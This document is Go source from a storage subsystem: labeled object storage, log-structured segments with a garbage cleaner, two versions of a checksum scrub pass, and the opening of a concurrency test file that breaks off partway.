	buf := make([]byte, size)
	if size > 0 {
		if _, err := s.d.ReadAt(buf, int64(off)); err != nil {
			return nil, err
		}
	}
	if hasCRC {
		if got := crc32c(buf); got != crc {
			return nil, s.noteCorruption(&CorruptError{
				Area:   "object",
				Offset: int64(off),
				Detail: fmt.Sprintf("object %d contents checksum mismatch: got %#x, want %#x", id, got, crc),
			})
		}
	}
	return buf, nil
}

// PutLabeled is Put plus recording the object's information-flow label.
// Labels are serialized in their canonical sorted form (into every SyncObject
// log record, and into the metadata snapshot at checkpoint) and their
// fingerprints are recomputed exactly once on load, so a restored system
// resumes with warm comparison-cache keys.  Contents and label are installed
// under one entry-lock hold, so a concurrent SyncObject can never seal the
// new contents with the old (or no) label — the same atomicity the log
// record format provides on disk.
func (s *Store) PutLabeled(id uint64, lbl label.Label, data []byte) error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return ErrClosed
	}
	sh := s.shardOf(id)
	e := sh.getOrCreate(id)
	e.mu.Lock()
	s.putEntry(e, data)
	s.setLabel(sh, id, e, lbl)
	e.mu.Unlock()
	return nil
}

// SetLabel records (or replaces) the label of an object without touching its
// contents.
func (s *Store) SetLabel(id uint64, lbl label.Label) error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return ErrClosed
	}
	sh := s.shardOf(id)
	e := sh.getOrCreate(id)
	e.mu.Lock()
	s.setLabel(sh, id, e, lbl)
	e.mu.Unlock()
	return nil
}

// decodeLabel is the store's only route to label deserialization; it feeds
// the LabelDecodes counter the index tests assert against.
func (s *Store) decodeLabel(src []byte) (label.Label, []byte, error) {
	s.c.labelDecodes.Add(1)
	return label.DecodeBinary(src)
}

// Label returns the stored label of an object, if one was recorded.
func (s *Store) Label(id uint64) (label.Label, bool) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	e := s.shardOf(id).lookup(id)
	if e == nil {
		return label.Label{}, false
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.lbl, e.hasLbl
}

// LabelCount returns how many objects have a recorded label.
func (s *Store) LabelCount() int {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	n := 0
	for si := range s.shards {
		sh := &s.shards[si]
		sh.mu.RLock()
		n += sh.labelIndex.Len()
		sh.mu.RUnlock()
	}
	return n
}

// ObjectsWithLabel returns, in ascending order, the IDs of every object
// whose label has the given fingerprint — the "all objects tainted by
// category c" scan.  It is answered entirely from the fingerprint-keyed
// label index slices (one per shard, merged and sorted): no label is
// deserialized or even compared, which the LabelDecodes stat makes
// checkable.
func (s *Store) ObjectsWithLabel(fp label.Fingerprint) []uint64 {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	s.c.indexQueries.Add(1)
	var out []uint64
	for si := range s.shards {
		sh := &s.shards[si]
		sh.mu.RLock()
		sh.labelIndex.ScanPrefix(uint64(fp), func(k btree.Key, _ uint64) bool {
			out = append(out, k[1])
			return true
		})
		sh.mu.RUnlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// VerifyLabelIndex checks that the fingerprint index and the label map
// mirror each other exactly; the recovery tests run it after every replayed
// crash.
func (s *Store) VerifyLabelIndex() error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	for si := range s.shards {
		sh := &s.shards[si]
		labeled := 0
		for _, se := range sh.snapshot() {
			se.entry.mu.Lock()
			hasLbl, fp := se.entry.hasLbl, se.entry.lbl.Fingerprint()
			se.entry.mu.Unlock()
			if !hasLbl {
				continue
			}
			labeled++
			sh.mu.RLock()
			_, ok := sh.labelIndex.Get(btree.K2(uint64(fp), se.id))
			sh.mu.RUnlock()
			if !ok {
				return fmt.Errorf("store: label index missing object %d (fingerprint %x)", se.id, uint64(fp))
			}
		}
		sh.mu.RLock()
		n := sh.labelIndex.Len()
		sh.mu.RUnlock()
		if n != labeled {
			return fmt.Errorf("store: shard %d label index has %d entries for %d labels", si, n, labeled)
		}
	}
	return nil
}

// Cached reports whether the object's contents are resident in memory.
func (s *Store) Cached(id uint64) bool {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	e := s.shardOf(id).lookup(id)
	if e == nil {
		return false
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.cached
}

// EvictCache drops all clean objects from the in-memory cache, forcing
// subsequent Gets to hit the disk (used by the uncached read benchmarks).
// Labels stay resident: only contents are evicted.
func (s *Store) EvictCache() {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	for si := range s.shards {
		for _, se := range s.shards[si].snapshot() {
			se.entry.mu.Lock()
			// A checkpoint-sealed entry's resident copy is the only copy of
			// its sealed state until the body writes it home: never evictable.
			if se.entry.cached && !se.entry.dirty && !se.entry.ckpt {
				se.entry.data, se.entry.cached = nil, false
			}
			se.entry.mu.Unlock()
		}
	}
}

// Delete removes an object.
func (s *Store) Delete(id uint64) error {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return ErrClosed
	}
	s.c.deletes.Add(1)
	sh := s.shardOf(id)
	e := sh.getOrCreate(id)
	e.mu.Lock()
	e.data, e.cached, e.dirty, e.dead = nil, false, false, true
	e.quar = false // deletion disposes of the damaged extent
	s.clearLabel(sh, id, e)
	e.mu.Unlock()
	return nil
}

// Close checkpoints and marks the store closed.
func (s *Store) Close() error {
	if err := s.Checkpoint(); err != nil {
		return err
	}
	s.ckptMu.Lock()
	s.closed = true
	s.ckptMu.Unlock()
	return nil
}

// FreeBytes returns the total free space in the data region.
func (s *Store) FreeBytes() int64 {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	s.allocMu.Lock()
	defer s.allocMu.Unlock()
	var total int64
	s.freeByOff.Scan(func(_ btree.Key, v uint64) bool {
		total += int64(v)
		return true
	})
	return total
}
