package store

import (
	"histar/internal/btree"
)

// The log-structured data region: checkpoint relocations append sealed
// object contents into fixed-size append-only segments at 512-byte
// granularity, so one checkpoint's home writes are a handful of sequential
// streams instead of one random extent per object.  Objects too large to
// pack (more than half a segment) keep the original dedicated-extent path.
//
// A segment's extent is never overwritten in place: appends only ever land
// beyond the committed high-water mark (used), and space behind dead
// objects is reclaimed by freeing the whole segment once it is empty, or by
// the cleaner (cleanSegments) once at least half its written bytes are
// dead.  Both routes go through the deferred-free list, so a snapshot that
// is still referenced on disk never has a segment written over — the same
// copy-on-write discipline dedicated extents always had.

// segment is one append-only extent in the data region.  used is the append
// high-water mark (512-aligned); live counts the 512-aligned bytes of
// objects the object map still references and drives the cleaner; size is
// the extent length recorded when the segment was created, so images opened
// under a different SegmentSize option keep their old segments' geometry.
// live is derived (recomputed from the object map at open); base, size, and
// used are persisted in the metadata snapshot's segment section.  All
// fields are guarded by allocMu.
type segment struct {
	base int64
	size int64
	used int64
	live int64
}

// align512 is the packing granularity inside segments.
func align512(n int64) int64 { return (n + 511) &^ 511 }

// segContainingLocked returns the segment whose extent contains off, or
// nil; the caller holds allocMu.
func (s *Store) segContainingLocked(off int64) *segment {
	k, _, ok := s.segBases.Floor(btree.K1(uint64(off)))
	if !ok {
		return nil
	}
	seg := s.segs[int64(k[0])]
	if seg == nil || off >= seg.base+seg.size {
		return nil
	}
	return seg
}

// dropSegLocked forgets a segment; the caller holds allocMu and has already
// queued (or is about to queue) its extent for release.
func (s *Store) dropSegLocked(base int64) {
	delete(s.segs, base)
	s.segBases.Delete(btree.K1(uint64(base)))
	if s.openSegBase == base {
		s.openSegBase = 0
	}
}

// vacateExtent releases one reference to the home extent behind (off,
// size).  A shared extent (clone aliases and/or bundle pins, tracked in
// extRefs) just loses a reference — no byte is reclaimable while any
// referent remains, which is what keeps the cleaner and the deferred-free
// path off bundle-reachable data.  The sole (or last) referent's release
// does the real work: space inside a segment decrements the segment's live
// count — the extent itself is reclaimed when the segment empties (here) or
// by the cleaner — while a dedicated extent joins the deferred-free list
// directly.  Called by the checkpoint body (ckptRun serializes) and by
// DeleteBundle (pin release); takes allocMu, so it may be called with
// metaMu held (lock order metaMu → allocMu).
func (s *Store) vacateExtent(off, size int64) {
	s.allocMu.Lock()
	defer s.allocMu.Unlock()
	if n, ok := s.extRefs[off]; ok {
		if n <= 2 {
			delete(s.extRefs, off) // back to a single owner
		} else {
			s.extRefs[off] = n - 1
		}
		return
	}
	if seg := s.segContainingLocked(off); seg != nil {
		seg.live -= align512(size)
		if seg.live <= 0 {
			seg.live = 0
			if seg.base != s.openSegBase {
				s.deferredFree = append(s.deferredFree, extent{off: seg.base, size: seg.size})
				s.dropSegLocked(seg.base)
				s.c.segsFreed.Add(1)
			}
		}
		return
	}
	s.deferredFree = append(s.deferredFree, extent{off: off, size: alignUp(size)})
}

// segAppend appends one object's contents to the open segment (rotating to
// a freshly allocated one when it would overflow) and returns the object's
// new home offset.  The device write is issued with no lock held; segment
// bookkeeping is under allocMu.  Only the checkpoint body calls it (ckptRun
// serializes), so the open segment cannot rotate underneath the write.
func (s *Store) segAppend(data []byte) (int64, error) {
	sz := align512(int64(len(data)))
	s.allocMu.Lock()
	seg := s.segs[s.openSegBase]
	if s.openSegBase == 0 || seg == nil || seg.used+sz > seg.size {
		s.allocMu.Unlock()
		ext, err := s.allocate(s.segSize)
		if err != nil {
			return 0, err
		}
		s.allocMu.Lock()
		seg = &segment{base: ext.off, size: ext.size}
		s.segs[ext.off] = seg
		s.segBases.Put(btree.K1(uint64(ext.off)), 0)
		s.openSegBase = ext.off
		s.c.segsAllocated.Add(1)
	}
	off := seg.base + seg.used
	seg.used += sz
	seg.live += sz
	s.allocMu.Unlock()
	if len(data) > 0 {
		if _, err := s.d.WriteAt(data, off); err != nil {
			return 0, err
		}
	}
	return off, nil
}

// recomputeSegLive derives the loaded image's reference state: the extent
// refcounts (extRefs — object-map aliases plus bundle pins; neither is
// persisted directly) and each segment's live count, with every unique
// extent counted exactly once no matter how many referents share it.  It
// also reopens the most recently allocated partially filled segment —
// provided its geometry matches the current SegmentSize — so appends
// continue where the committed snapshot left off.  Appending beyond a
// committed used mark is crash-safe: no referenced snapshot addresses those
// bytes.  Runs during Open, single-threaded, and is idempotent: Open calls
// it again after WAL replay, which may have added bundles and clones.
func (s *Store) recomputeSegLive() {
	type ref struct {
		n    int64
		size int64
	}
	refs := make(map[int64]ref, s.objMap.Len())
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		r := refs[int64(v)]
		r.n++
		r.size = s.objSizes[k[0]]
		refs[int64(v)] = r
		return true
	})
	for _, b := range s.bundles {
		for i := range b.Objects {
			o := &b.Objects[i]
			r := refs[o.Off]
			r.n++
			if r.size == 0 {
				r.size = o.Size
			}
			refs[o.Off] = r
		}
	}
	s.extRefs = make(map[int64]int64)
	for off, r := range refs {
		if r.n >= 2 {
			s.extRefs[off] = r.n
		}
	}
	if len(s.segs) == 0 {
		return
	}
	for _, seg := range s.segs {
		seg.live = 0
	}
	for off, r := range refs {
		if seg := s.segContainingLocked(off); seg != nil {
			seg.live += align512(r.size)
		}
	}
	s.openSegBase = 0
	for base, seg := range s.segs {
		if seg.size == s.segSize && seg.used < seg.size && base > s.openSegBase {
			s.openSegBase = base
		}
	}
}

// cleanSegments is the data region's garbage collector, run by the
// checkpoint body after relocation: fully dead segments are freed without
// copying, and segments with at least half their written bytes dead have
// their live objects appended to the open segment so the whole extent can
// be reclaimed.  A live object that fails its contents CRC on the way out
// is quarantined and its segment left in place (moving would destroy the
// only — damaged — copy).
func (s *Store) cleanSegments() error {
	// Segments holding bundle-pinned extents are immovable: a bundle records
	// its extents by offset, so copying them out would invalidate every
	// future clone and replay of the bundle.  (A clone-shared extent with no
	// bundle pin may still move — each alias is copied out separately and
	// vacateExtent retires the share one reference at a time.)  Bundle
	// extents always count toward live, so a pinned segment can never look
	// empty; the skip below keeps both the free path and the copy-out path
	// off it.
	s.metaMu.RLock()
	var pinnedOffs []int64
	for _, b := range s.bundles {
		for i := range b.Objects {
			pinnedOffs = append(pinnedOffs, b.Objects[i].Off)
		}
	}
	s.metaMu.RUnlock()
	s.allocMu.Lock()
	pinned := make(map[int64]bool)
	for _, off := range pinnedOffs {
		if seg := s.segContainingLocked(off); seg != nil {
			pinned[seg.base] = true
		}
	}
	var victims []*segment
	for base, seg := range s.segs {
		if base == s.openSegBase || seg.used == 0 || pinned[base] {
			continue
		}
		if seg.live == 0 {
			s.deferredFree = append(s.deferredFree, extent{off: seg.base, size: seg.size})
			s.dropSegLocked(base)
			s.c.segsFreed.Add(1)
			continue
		}
		if seg.live*2 < seg.used {
			victims = append(victims, seg)
		}
	}
	s.allocMu.Unlock()
	if len(victims) == 0 {
		return nil
	}
	sortSegs(victims)
	// One object-map scan collects every victim's live objects (ascending
	// id, the deterministic order the segment writer needs).
	type liveObj struct {
		id     uint64
		off    int64
		size   int64
		crc    uint32
		hasCRC bool
	}
	byVictim := make(map[int64][]liveObj, len(victims))
	s.metaMu.RLock()
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		off := int64(v)
		for _, seg := range victims {
			if off >= seg.base && off < seg.base+seg.size {
				crc, has := s.objCRCs[k[0]]
				byVictim[seg.base] = append(byVictim[seg.base], liveObj{
					id: k[0], off: off, size: s.objSizes[k[0]], crc: crc, hasCRC: has,
				})
				break
			}
		}
		return true
	})
	s.metaMu.RUnlock()
	for _, seg := range victims {
		damaged := false
		for _, o := range byVictim[seg.base] {
			buf := make([]byte, o.size)
			if o.size > 0 {
				if _, err := s.d.ReadAt(buf, o.off); err != nil {
					damaged = true
					break
				}
			}
			if o.hasCRC && crc32c(buf) != o.crc {
				s.noteCorruption(&CorruptError{Area: "object", Offset: o.off,
					Detail: "contents checksum mismatch found by the segment cleaner"})
				e := s.shardOf(o.id).getOrCreate(o.id)
				e.mu.Lock()
				if !e.dirty && !e.dead && !e.ckpt {
					s.quarantine(o.id, e, "home extent failed verification during segment clean")
				}
				e.mu.Unlock()
				s.propagateExtentRot(o.off, o.id)
				damaged = true
				break
			}
			newOff, err := s.segAppend(buf)
			if err != nil {
				return err
			}
			s.metaMu.Lock()
			if cur, ok := s.objMap.Get(btree.K1(o.id)); ok && int64(cur) == o.off {
				s.objMap.Put(btree.K1(o.id), uint64(newOff))
				s.vacateExtent(o.off, o.size)
			}
			s.metaMu.Unlock()
			s.c.bytesCleaned.Add(uint64(o.size))
		}
		if !damaged {
			// Every live object moved out; the final vacateExtent freed the
			// segment when its live count reached zero.
			s.c.segsCleaned.Add(1)
		}
	}
	return nil
}

// sortSegs orders segments by base offset for deterministic cleaning.
func sortSegs(segs []*segment) {
	for i := 1; i < len(segs); i++ {
		for j := i; j > 0 && segs[j-1].base > segs[j].base; j-- {
			segs[j-1], segs[j] = segs[j], segs[j-1]
		}
	}
}
