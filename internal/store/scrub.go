package store

import (
	"time"

	"histar/internal/btree"
)

// ScrubStats is the result of one scrub pass.
type ScrubStats struct {
	// SuperblockCopiesOK counts the superblock copies (of 2) that passed
	// verification; legacy images have only a primary, so 1 is healthy
	// there.
	SuperblockCopiesOK int
	// MetaAreasChecked / MetaAreasOK cover the referenced metadata area
	// and, when it holds a committed older snapshot, the alternate one.
	MetaAreasChecked int
	MetaAreasOK      int
	// IndexCorrupt reports that only the fingerprint-index section of a
	// checked area failed — recoverable damage (the index is rebuilt from
	// labels at open).
	IndexCorrupt bool
	// ObjectsChecked counts home extents verified against their recorded
	// contents CRC; ObjectsUnverifiable counts extents with no recorded CRC
	// (objects migrated from a legacy image, unverifiable until their next
	// relocation); ObjectsQuarantined counts extents newly quarantined by
	// this pass.
	ObjectsChecked      int
	ObjectsUnverifiable int
	ObjectsQuarantined  int
	// CorruptionsFound is every verification failure this pass detected
	// (superblock copies, metadata areas, index section, object extents).
	CorruptionsFound int
	// BytesVerified is the volume of data read and checksummed.
	BytesVerified int64
	// Duration is the wall-clock cost of the pass.
	Duration time.Duration
}

// scrubTarget is one home extent to verify, captured from the object map
// under metaMu so the walk itself runs lock-free.
type scrubTarget struct {
	id     uint64
	off    int64
	size   int64
	crc    uint32
	hasCRC bool
}

// Scrub verifies the store's on-disk state in the background of normal
// operation: both superblock copies, the referenced (and, when present, the
// alternate) metadata area, and every object home extent against its
// recorded contents CRC.  Mismatched extents are quarantined exactly as an
// access-time detection would.  Scrub holds ckptMu in read mode, so it
// excludes checkpoints (which relocate extents) but runs concurrently with
// reads, writes, and syncs.
func (s *Store) Scrub() (ScrubStats, error) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return ScrubStats{}, ErrClosed
	}
	start := time.Now()
	var st ScrubStats

	s.scrubSuperblock(&st)
	s.scrubMetaAreas(&st)
	s.scrubObjects(&st)

	st.Duration = time.Since(start)
	s.integ.scrubPasses.Add(1)
	s.integ.scrubBytes.Add(uint64(st.BytesVerified))
	s.integ.mu.Lock()
	s.integ.lastScrub = st
	s.integ.mu.Unlock()
	return st, nil
}

// scrubSuperblock verifies both superblock copies in place.
func (s *Store) scrubSuperblock(st *ScrubStats) {
	raw := make([]byte, sbBackupOff+sbCopySize)
	if _, err := s.d.ReadAt(raw, superblockOffset); err != nil {
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
		return
	}
	primary, perr := parseSuperblockCopy(raw[:sbCopySize], superblockOffset)
	_, berr := parseSuperblockCopy(raw[sbBackupOff:], superblockOffset+sbBackupOff)
	st.BytesVerified += 2 * sbCopySize
	if perr == nil {
		st.SuperblockCopiesOK++
	} else {
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	}
	if berr == nil {
		st.SuperblockCopiesOK++
	} else if !(perr == nil && primary.version == 0) {
		// A legacy image legitimately has no backup copy; anything else
		// means the backup rotted.
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	}
}

// scrubMetaAreas verifies the referenced metadata area and, when it holds a
// committed (strictly older epoch) snapshot, the alternate one — the copy a
// future fallback would depend on.  On a legacy image there is nothing
// checksummed to verify.
func (s *Store) scrubMetaAreas(st *ScrubStats) {
	if s.report.LegacyImage && s.metaEpoch == 0 {
		return
	}
	areaLen := func(secs [numSecs + 1][]byte) int64 {
		n := int64(metaHeaderSize)
		for _, sec := range secs {
			if sec != nil {
				n += 24 + int64(len(sec))
			}
		}
		return n
	}
	// Referenced area: must verify at the current epoch.
	secs, epoch, indexErr, err := s.verifyMetaArea(s.metaWhich)
	st.MetaAreasChecked++
	switch {
	case err != nil:
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	case epoch != s.metaEpoch:
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	default:
		st.MetaAreasOK++
		st.BytesVerified += areaLen(secs)
		if indexErr != nil {
			st.IndexCorrupt = true
			st.CorruptionsFound++
			s.integ.corruptions.Add(1)
		}
	}
	// Alternate area: only meaningful once it holds a committed older
	// snapshot (epoch strictly below the superblock's).  An unparseable
	// header is indistinguishable from "never written", so it is skipped
	// rather than counted.
	altSecs, altEpoch, altIndexErr, altErr := s.verifyMetaArea(1 - s.metaWhich)
	if altErr == nil && altEpoch < s.metaEpoch {
		st.MetaAreasChecked++
		st.MetaAreasOK++
		st.BytesVerified += areaLen(altSecs)
		if altIndexErr != nil {
			st.IndexCorrupt = true
			st.CorruptionsFound++
			s.integ.corruptions.Add(1)
		}
	}
}

// scrubObjects verifies every mapped home extent against its recorded
// contents CRC, quarantining mismatches.
func (s *Store) scrubObjects(st *ScrubStats) {
	s.metaMu.RLock()
	targets := make([]scrubTarget, 0, s.objMap.Len())
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		id := k[0]
		crc, hasCRC := s.objCRCs[id]
		targets = append(targets, scrubTarget{
			id: id, off: int64(v), size: s.objSizes[id], crc: crc, hasCRC: hasCRC,
		})
		return true
	})
	s.metaMu.RUnlock()

	for _, t := range targets {
		if !t.hasCRC {
			st.ObjectsUnverifiable++
			continue
		}
		// Home extents are only rewritten by checkpoints, which ckptMu
		// excludes, so the read below cannot race a relocation.  The CRC
		// captured above keeps describing this extent even if the object
		// was overwritten (dirty) or deleted (dead) since: new contents
		// live in memory and the log until the next checkpoint.
		buf := make([]byte, t.size)
		if t.size > 0 {
			if _, err := s.d.ReadAt(buf, t.off); err != nil {
				st.CorruptionsFound++
				s.integ.corruptions.Add(1)
				continue
			}
		}
		st.ObjectsChecked++
		st.BytesVerified += t.size
		if crc32c(buf) == t.crc {
			continue
		}
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
		e := s.shardOf(t.id).getOrCreate(t.id)
		e.mu.Lock()
		// Skip the verdict if the on-disk copy is already superseded: a
		// dirty or dead entry's next checkpoint abandons this extent.
		if !e.dirty && !e.dead {
			if !e.quar {
				st.ObjectsQuarantined++
			}
			s.quarantine(t.id, e, "home extent failed scrub verification")
		}
		e.mu.Unlock()
	}
}
