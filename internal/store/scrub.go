package store

import (
	"time"

	"histar/internal/btree"
)

// ScrubStats is the result of one scrub pass.
type ScrubStats struct {
	// SuperblockCopiesOK counts the superblock copies (of 2) that passed
	// verification; legacy images have only a primary, so 1 is healthy
	// there.
	SuperblockCopiesOK int
	// MetaAreasChecked / MetaAreasOK cover the referenced metadata area
	// and, when it holds a committed older snapshot, the alternate one.
	MetaAreasChecked int
	MetaAreasOK      int
	// IndexCorrupt reports that only the fingerprint-index section of a
	// checked area failed — recoverable damage (the index is rebuilt from
	// labels at open).
	IndexCorrupt bool
	// ObjectsChecked counts home extents verified against their recorded
	// contents CRC; ObjectsUnverifiable counts extents with no recorded CRC
	// (objects migrated from a legacy image, unverifiable until the next
	// checkpoint's CRC-backfill pass reads and checksums them);
	// ObjectsQuarantined counts extents newly quarantined by this pass.
	ObjectsChecked      int
	ObjectsUnverifiable int
	ObjectsQuarantined  int
	// CorruptionsFound is every verification failure this pass detected
	// (superblock copies, metadata areas, index section, object extents).
	CorruptionsFound int
	// BytesVerified is the volume of data read and checksummed.
	BytesVerified int64
	// Duration is the wall-clock cost of the pass.
	Duration time.Duration
}

// scrubTarget is one home extent to verify, captured from the object map
// under metaMu so the walk itself runs lock-free.
type scrubTarget struct {
	id     uint64
	off    int64
	size   int64
	crc    uint32
	hasCRC bool
}

// scrubChunk bounds how many object extents are verified per ckptMu read
// hold.  The gate is reacquired between chunks, so a pending checkpoint
// seal (a ckptMu writer) waits for at most one chunk of reads — not the
// whole pass — and syncs queued behind that writer see bounded latency.
const scrubChunk = 64

// Scrub verifies the store's on-disk state in the background of normal
// operation: both superblock copies, the referenced (and, when present, the
// alternate) metadata area, and every object home extent against its
// recorded contents CRC.  Mismatched extents are quarantined exactly as an
// access-time detection would.
//
// The object walk is chunked: each chunk of extents is verified under its
// own ckptMu read hold, and the lock is dropped between chunks, so a
// checkpoint seal never queues behind a full pass (and syncs never queue
// behind the seal).  Because the checkpoint body relocates extents
// concurrently, a mismatch is re-validated against the live object map
// before any quarantine verdict: a target whose object has moved or been
// re-checksummed since capture is simply stale, not damaged.  Superblock
// and metadata-area verification runs under sbMu, which the checkpoint
// body holds across its snapshot write and superblock flip, so scrub never
// reads a torn in-progress image.
func (s *Store) Scrub() (ScrubStats, error) {
	start := time.Now()
	var st ScrubStats

	s.ckptMu.RLock()
	if s.closed {
		s.ckptMu.RUnlock()
		return ScrubStats{}, ErrClosed
	}
	s.sbMu.Lock()
	s.scrubSuperblock(&st)
	s.scrubMetaAreas(&st)
	s.sbMu.Unlock()
	targets := s.scrubTargets()
	s.ckptMu.RUnlock()

	for len(targets) > 0 {
		if s.scrubGate != nil {
			s.scrubGate()
		}
		n := scrubChunk
		if n > len(targets) {
			n = len(targets)
		}
		chunk := targets[:n]
		targets = targets[n:]
		s.ckptMu.RLock()
		if s.closed {
			s.ckptMu.RUnlock()
			break
		}
		for _, t := range chunk {
			s.scrubOneObject(t, &st)
		}
		s.ckptMu.RUnlock()
	}

	st.Duration = time.Since(start)
	s.integ.scrubPasses.Add(1)
	s.integ.scrubBytes.Add(uint64(st.BytesVerified))
	s.integ.mu.Lock()
	s.integ.lastScrub = st
	s.integ.mu.Unlock()
	return st, nil
}

// scrubSuperblock verifies both superblock copies in place; the caller
// holds sbMu.
func (s *Store) scrubSuperblock(st *ScrubStats) {
	raw := make([]byte, sbBackupOff+sbCopySize)
	if _, err := s.d.ReadAt(raw, superblockOffset); err != nil {
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
		return
	}
	primary, perr := parseSuperblockCopy(raw[:sbCopySize], superblockOffset)
	_, berr := parseSuperblockCopy(raw[sbBackupOff:], superblockOffset+sbBackupOff)
	st.BytesVerified += 2 * sbCopySize
	if perr == nil {
		st.SuperblockCopiesOK++
	} else {
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	}
	if berr == nil {
		st.SuperblockCopiesOK++
	} else if !(perr == nil && primary.version == 0) {
		// A legacy image legitimately has no backup copy; anything else
		// means the backup rotted.
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	}
}

// scrubMetaAreas verifies the referenced metadata area and, when it holds a
// committed (strictly older epoch) snapshot, the alternate one — the copy a
// future fallback would depend on.  On a legacy image there is nothing
// checksummed to verify.  The caller holds sbMu, which keeps metaWhich and
// metaEpoch stable (the checkpoint body updates them under sbMu) and
// excludes an in-progress area rewrite.
func (s *Store) scrubMetaAreas(st *ScrubStats) {
	if s.report.LegacyImage && s.metaEpoch == 0 {
		return
	}
	areaLen := func(secs [numSecs + 1][]byte) int64 {
		n := int64(metaHeaderSize)
		for _, sec := range secs {
			if sec != nil {
				n += 24 + int64(len(sec))
			}
		}
		return n
	}
	// Referenced area: must verify at the current epoch.
	secs, epoch, indexErr, err := s.verifyMetaArea(s.metaWhich)
	st.MetaAreasChecked++
	switch {
	case err != nil:
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	case epoch != s.metaEpoch:
		st.CorruptionsFound++
		s.integ.corruptions.Add(1)
	default:
		st.MetaAreasOK++
		st.BytesVerified += areaLen(secs)
		if indexErr != nil {
			st.IndexCorrupt = true
			st.CorruptionsFound++
			s.integ.corruptions.Add(1)
		}
	}
	// Alternate area: only meaningful once it holds a committed older
	// snapshot (epoch strictly below the superblock's).  An unparseable
	// header is indistinguishable from "never written", so it is skipped
	// rather than counted.
	altSecs, altEpoch, altIndexErr, altErr := s.verifyMetaArea(1 - s.metaWhich)
	if altErr == nil && altEpoch < s.metaEpoch {
		st.MetaAreasChecked++
		st.MetaAreasOK++
		st.BytesVerified += areaLen(altSecs)
		if altIndexErr != nil {
			st.IndexCorrupt = true
			st.CorruptionsFound++
			s.integ.corruptions.Add(1)
		}
	}
}

// scrubTargets captures every mapped home extent under metaMu.
func (s *Store) scrubTargets() []scrubTarget {
	s.metaMu.RLock()
	defer s.metaMu.RUnlock()
	targets := make([]scrubTarget, 0, s.objMap.Len())
	s.objMap.Scan(func(k btree.Key, v uint64) bool {
		id := k[0]
		crc, hasCRC := s.objCRCs[id]
		targets = append(targets, scrubTarget{
			id: id, off: int64(v), size: s.objSizes[id], crc: crc, hasCRC: hasCRC,
		})
		return true
	})
	return targets
}

// scrubOneObject verifies one captured home extent; the caller holds ckptMu
// in read mode.
func (s *Store) scrubOneObject(t scrubTarget, st *ScrubStats) {
	if !t.hasCRC {
		st.ObjectsUnverifiable++
		return
	}
	buf := make([]byte, t.size)
	if t.size > 0 {
		if _, err := s.d.ReadAt(buf, t.off); err != nil {
			st.CorruptionsFound++
			s.integ.corruptions.Add(1)
			return
		}
	}
	st.ObjectsChecked++
	st.BytesVerified += t.size
	if crc32c(buf) == t.crc {
		return
	}
	// The extent disagrees with the CRC captured at walk start — but the
	// checkpoint body may have relocated the object (or backfilled a new
	// CRC) since then, making this target stale rather than damaged.  Only
	// a mismatch the live object map still vouches for is a real verdict.
	s.metaMu.RLock()
	cur, ok := s.objMap.Get(btree.K1(t.id))
	crcNow, hasNow := s.objCRCs[t.id]
	s.metaMu.RUnlock()
	if !ok || int64(cur) != t.off || !hasNow || crcNow != t.crc {
		return
	}
	st.CorruptionsFound++
	s.integ.corruptions.Add(1)
	e := s.shardOf(t.id).getOrCreate(t.id)
	e.mu.Lock()
	// Skip the verdict if the on-disk copy is already superseded: a dirty,
	// dead, or checkpoint-sealed entry's in-memory state replaces this
	// extent at the next relocation.
	if !e.dirty && !e.dead && !e.ckpt {
		if !e.quar {
			st.ObjectsQuarantined++
		}
		s.quarantine(t.id, e, "home extent failed scrub verification")
	}
	e.mu.Unlock()
}
