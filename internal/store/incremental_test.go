package store

// Directed tests for the incremental checkpoint protocol: syncs and reads
// proceeding while a checkpoint body runs, scrub chunking bounding sync
// latency, no device writes under metaMu, segment-cleaner behaviour, and
// the crash matrix over a cleaning checkpoint's write schedule.

import (
	"bytes"
	"fmt"
	"sync"
	"testing"
	"time"

	"histar/internal/disk"
	"histar/internal/vclock"
)

// withTimeout fails the test if fn does not return within d — the directed
// concurrency tests use it so a reintroduced stall reads as a clear failure
// instead of a package timeout.
func withTimeout(t *testing.T, d time.Duration, what string, fn func()) {
	t.Helper()
	done := make(chan struct{})
	go func() {
		fn()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("%s did not complete within %v (checkpoint stall regression)", what, d)
	}
}

// TestSyncAndReadProceedDuringCheckpointBody pins the tentpole property:
// with a checkpoint body paused indefinitely between seal and body (via the
// ckptGate hook), Put, Get, and SyncObject all run to completion — the only
// exclusive moment is the seal.  Under the old stop-the-world protocol
// every one of these would block until the checkpoint finished.
func TestSyncAndReadProceedDuringCheckpointBody(t *testing.T) {
	d := disk.New(disk.Params{Sectors: 1 << 16, WriteCache: true}, &vclock.Clock{})
	s, err := Format(d, Options{LogSize: 1 << 20, MetaAreaSize: 512 << 10, SegmentSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	for id := uint64(1); id <= 20; id++ {
